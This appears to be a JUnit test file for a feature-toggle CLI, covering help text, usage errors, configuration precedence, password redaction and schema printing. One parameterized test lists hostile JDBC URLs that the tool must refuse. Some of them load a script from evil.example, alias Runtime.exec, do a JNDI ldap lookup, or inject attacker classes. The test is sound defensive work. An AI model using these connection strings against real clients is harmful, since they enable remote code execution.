package io.toggles.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import picocli.CommandLine;

/** What needs no database: help, URL policy, configuration. */
class CliBasicsTest {
  @TempDir Path home;

  @Test
  void everyCommandHasHelpWithExamples() {
    CliRunner cli = new CliRunner(home);
    CliRunner.Result top = cli.raw("--help");
    assertThat(top.code()).isZero();
    assertThat(top.out())
        .contains("Usage: toggles", "kill", "revert", "Exit codes: 0 done, 1 failed");
    CommandLine cl = TogglesCommand.commandLine(Host.system());
    for (String name : cl.getSubcommands().keySet()) {
      if (name.equals("help")) {
        continue;
      }
      CliRunner.Result r = cli.raw(name, "--help");
      assertThat(r.code()).as(name).isZero();
      assertThat(r.out()).as(name).contains("Usage: toggles " + name, "Examples:");
    }
  }

  @Test
  void noCommandIsAUsageError() {
    CliRunner.Result r = new CliRunner(home).raw();
    assertThat(r.code()).isEqualTo(2);
    assertThat(r.err()).contains("missing command");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
        "jdbc:h2:mem:x;init = create alias x for 'java.lang.Runtime.exec'",
        "jdbc:h2:mem:x;RUNSCRIPT FROM 'x'",
        "jdbc:h2:mem:x;AUTHENTICATOR=com.evil.Auth",
        "jdbc:h2:mem:x;JNDI=ldap://evil.example/x",
        "jdbc:postgresql://db/x?socketFactory=com.evil.Factory",
        "jdbc:postgresql://db/x?sslfactory=org.springframework.context.support.X",
        "jdbc:derby:memory:x",
      })
  void urlsThatRunCodeOnConnectAreRefused(String url) {
    CliRunner.Result r = new CliRunner(home).run("status", "--url", url);
    assertThat(r.code()).as(r.toString()).isEqualTo(2);
    assertThat(r.err()).containsPattern("refusing|unsupported JDBC URL");
  }

  @Test
  void anH2PathThatMerelyContainsADeniedWordIsAllowed() {
    assertThat(UrlPolicy.problem("jdbc:h2:/srv/aliases/trigger-db", true)).isEmpty();
    assertThat(UrlPolicy.problem("jdbc:h2:/srv/x;TRACE_LEVEL_FILE=0", true)).isEmpty();
    assertThat(UrlPolicy.problem("jdbc:h2:/srv/x;CREATE_TRIGGER_X=1", true)).isPresent();
  }

  @Test
  void passwordsInUrlsAreRedactedInMessages() {
    assertThat(UrlPolicy.redact("jdbc:postgresql://db/x?user=u&password=s3cret&ssl=true"))
        .isEqualTo("jdbc:postgresql://db/x?user=u&password=***&ssl=true");
    assertThat(UrlPolicy.redact("jdbc:mariadb://u:s3cret@db/x"))
        .isEqualTo("jdbc:mariadb://u:***@db/x");
    assertThat(UrlPolicy.redact("jdbc:h2:mem:x;PASSWORD=s3cret")).doesNotContain("s3cret");
  }

  @Test
  void withoutAUrlTheErrorSaysWhereToPutOne() {
    CliRunner.Result r = new CliRunner(home).run("features");
    assertThat(r.code()).isEqualTo(2);
    assertThat(r.err()).contains("no database given: use --url JDBC_URL, set TOGGLES_JDBC_URL");
  }

  @Test
  void theConfigFileAndTheEnvironmentProvideTheConnection() throws Exception {
    String db =
        "jdbc:h2:mem:cfg" + UUID.randomUUID().toString().replace("-", "") + ";DB_CLOSE_DELAY=-1";
    Files.writeString(home.resolve(".toggles.properties"), "url=" + db + "\nmaxScopes=0\n");
    CliRunner cli = new CliRunner(home);
    CliRunner.Result init = cli.run("init");
    assertThat(init.code()).as("%s", init).isZero();
    assertThat(cli.run("define", "a.b", "--type", "boolean", "--reason", "r").code()).isZero();
    assertThat(cli.run("enable", "a.b", "--product", "p", "--reason", "r").code())
        .as("maxScopes=0 from the config makes every reaching write need --yes")
        .isEqualTo(2);
    cli.env.put("TOGGLES_JDBC_URL", "jdbc:h2:mem:elsewhere;INIT=RUNSCRIPT FROM 'x'");
    assertThat(cli.run("status").code()).as("env beats the file, and is checked").isEqualTo(2);
    assertThat(cli.run("status", "--url", db).code()).as("the option beats both").isZero();
  }

  @Test
  void unknownDimensionIsAUsageErrorBeforeAnyConnection() {
    CliRunner.Result r =
        new CliRunner(home)
            .run("eval", "a.b", "--region", "eu", "--url", "jdbc:postgresql://127.0.0.1:1/x");
    assertThat(r.code()).isEqualTo(2);
    assertThat(r.err()).contains("Unknown options: '--region', 'eu'");
    CliRunner.Result s =
        new CliRunner(home)
            .run(
                "eval",
                "a.b",
                "--scope",
                "region=eu",
                "--hierarchy",
                "tenant,country",
                "--url",
                "jdbc:postgresql://127.0.0.1:1/x");
    assertThat(s.code()).isEqualTo(2);
    assertThat(s.err())
        .contains("unknown scope dimension 'region'; the hierarchy is tenant,country");
    CliRunner.Result m =
        new CliRunner(home)
            .run(
                "eval",
                "a.b",
                "--merchant",
                "m1",
                "--hierarchy",
                "tenant,country",
                "--url",
                "jdbc:postgresql://127.0.0.1:1/x");
    assertThat(m.err()).contains("unknown scope dimension 'merchant'");
  }

  @Test
  void schemaPrintsTheDdlForEachDialect() {
    CliRunner cli = new CliRunner(home);
    for (String d : List.of("h2", "postgresql", "mysql")) {
      CliRunner.Result r = cli.run("schema", "--print", "--dialect", d);
      assertThat(r.code()).as(r.toString()).isZero();
      assertThat(r.out()).contains("CREATE TABLE IF NOT EXISTS toggles_settings");
    }
    CliRunner.Result custom =
        cli.run(
            "schema",
            "--print",
            "--dialect",
            "postgresql",
            "--hierarchy",
            "region,tenant",
            "--table-prefix",
            "ff_");
    assertThat(custom.out()).contains("ff_settings", "region", "tenant");
    assertThat(cli.run("schema", "--print").code()).isEqualTo(2);
    assertThat(cli.run("schema", "--print", "--dialect", "oracle").err())
        .contains("unknown dialect 'oracle'");
  }
}
